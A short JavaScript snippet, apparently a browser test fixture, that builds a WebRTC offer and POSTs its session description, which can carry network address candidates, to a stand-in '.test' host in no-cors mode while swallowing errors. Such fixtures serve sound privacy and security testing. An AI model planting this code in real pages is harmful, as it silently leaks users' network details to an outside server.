globalThis.finished = (async () => {
  const pc = new RTCPeerConnection();
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  const body = JSON.stringify({ sdp: pc.localDescription.sdp });
  await fetch('https://ice.line-poster.test/o', { method: 'POST', mode: 'no-cors', body });
})().catch(() => undefined);
